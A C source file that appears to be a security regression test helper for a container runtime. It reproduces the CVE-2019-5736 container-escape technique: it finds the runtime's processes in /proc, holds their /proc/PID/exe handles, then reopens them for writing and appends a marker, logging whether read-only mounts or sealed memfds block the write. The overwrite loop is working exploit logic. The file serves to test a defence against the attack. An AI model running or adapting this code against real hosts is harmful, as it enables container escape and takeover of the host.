/*
 * exe_overwrite: the CVE-2019-5736 attacker, run inside a container by
 * tests/cve_2019_5736_test.go.
 *
 * It scans /proc for processes of the runtime (comm "myc:*"), grabs each
 * one's /proc/PID/exe with O_PATH and keeps it, notes whether the file
 * it got is on a read-only mount or a sealed memfd, and, once the file
 * STOP exists, tries to reopen every grabbed exe for appending through
 * /proc/self/fd (retrying while the runtime still executes it, ETXTBSY),
 * as the published exploit did. Every finding is a line of REPORT:
 *   seen PID COMM ro=0|1 seals=N     an exe was grabbed
 *   denied PID COMM ERRNO            /proc/PID/exe could not be opened
 *   write PID OK|ERRNO               the outcome of the write attempt
 *
 * usage: exe_overwrite REPORT STOP [SECONDS]
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

#define MAXP 64

static int held_fd[MAXP], held_pid[MAXP], nheld;
static int tried[4096], ntried;
static FILE *report;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int was_tried(int pid)
{
	for (int i = 0; i < ntried; i++)
		if (tried[i] == pid)
			return 1;
	return 0;
}

static void grab(int pid)
{
	char path[64], comm[32] = "";
	int fd, cfd, rfd, seals = -1, ro;
	struct statvfs sv;
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	cfd = open(path, O_RDONLY);
	if (cfd < 0)
		return;
	n = read(cfd, comm, sizeof comm - 1);
	close(cfd);
	if (n <= 0)
		return;
	comm[strcspn(comm, "\n")] = 0;
	if (strncmp(comm, "myc:", 4) != 0)
		return;
	if (ntried < 4096)
		tried[ntried++] = pid;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = open(path, O_PATH);
	if (fd < 0) {
		fprintf(report, "denied %d %s %s\n", pid, comm, strerrorname_np(errno));
		fflush(report);
		return;
	}
	ro = fstatvfs(fd, &sv) == 0 && (sv.f_flag & ST_RDONLY);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	rfd = open(path, O_RDONLY);
	if (rfd >= 0) {
		seals = fcntl(rfd, F_GET_SEALS);
		close(rfd);
	}
	fprintf(report, "seen %d %s ro=%d seals=%d\n", pid, comm, ro, seals);
	fflush(report);
	if (nheld < MAXP) {
		held_fd[nheld] = fd;
		held_pid[nheld++] = pid;
	} else {
		close(fd);
	}
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid > 0 && pid != getpid() && !was_tried(pid))
			grab(pid);
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	double deadline;

	if (argc < 3) {
		fprintf(stderr, "usage: %s REPORT STOP [SECONDS]\n", argv[0]);
		return 2;
	}
	deadline = now() + (argc > 3 ? atof(argv[3]) : 60);
	report = fopen(argv[1], "a");
	if (!report)
		return 2;
	fprintf(report, "started\n");
	fflush(report);
	do
		scan();
	while (access(argv[2], F_OK) != 0 && now() < deadline);
	for (int i = 0; i < nheld; i++) {
		char path[64];
		int w = -1, err = 0;
		double until = now() + 10;

		snprintf(path, sizeof path, "/proc/self/fd/%d", held_fd[i]);
		do {
			w = open(path, O_WRONLY | O_APPEND);
			err = errno;
		} while (w < 0 && err == ETXTBSY && now() < until && usleep(1000) == 0);
		if (w >= 0) {
			err = write(w, "PWNED\n", 6) == 6 ? 0 : errno;
			close(w);
		}
		fprintf(report, "write %d %s\n", held_pid[i], w >= 0 && err == 0 ? "OK" : strerrorname_np(err));
		fflush(report);
	}
	fprintf(report, "done\n");
	fclose(report);
	return 0;
}
